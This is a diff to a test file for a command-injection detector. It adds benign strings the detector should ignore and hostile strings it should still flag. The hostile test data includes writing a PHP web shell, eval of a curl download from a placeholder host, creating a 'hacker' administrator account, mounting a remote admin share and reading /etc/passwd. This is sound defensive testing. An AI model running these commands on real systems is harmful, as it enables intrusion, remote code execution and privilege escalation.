@@ -9,11 +9,31 @@ from eventguard.runtime.detectors import detector, scan
 
 # Each fix: the ordinary value it silences, and the attack beside it that still fires.
 QUIET_NOW = [
+    # cmdi: a whole value starting with echo/eval/net/sleep needs that command's syntax
+    ("cmdi", "Echo Dot (5th Gen) - Charcoal"),
+    ("cmdi", 'echo dot "5th gen" price'),
+    ("cmdi", "echo chamber effect"),
+    ("cmdi", "Eval board for STM32 (Nucleo-64)"),
+    ("cmdi", "Net user manual and setup guide"),
+    ("cmdi", "sleep 8 hours"),
     # cmdi: ";base64," is a data URL's parameter, not a command after a separator
     ("cmdi", '<img src="data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAAB" alt="x">'),
     ("cmdi", "data:application/pdf;base64,JVBERi0xLjQK"),
 ]
 STILL_FIRES = [
+    ("cmdi", "echo \"<?php system($_GET['cmd']); ?>\" > cmd.php"),
+    ("cmdi", "echo $PATH"),
+    ("cmdi", "echo `id`"),
+    ("cmdi", 'echo -e "\\x41"'),
+    ("cmdi", 'eval "$(curl -s http://x.example/a.sh)"'),
+    ("cmdi", "net user hacker Password1 /ADD"),
+    ("cmdi", "net localgroup Administrators hacker /ADD"),
+    ("cmdi", "net view"),
+    ("cmdi", "net user bob s3cret"),
+    ("cmdi", "net use \\\\10.0.0.5\\c$"),
+    ("cmdi", "sleep 5"),
+    ("cmdi", "sleep 10;"),
+    ("cmdi", "; echo hello"),
     ("cmdi", ";base64 -d /tmp/x"),
     ("cmdi", "|base64 /etc/passwd"),
     ("cmdi", "a;whoami"),
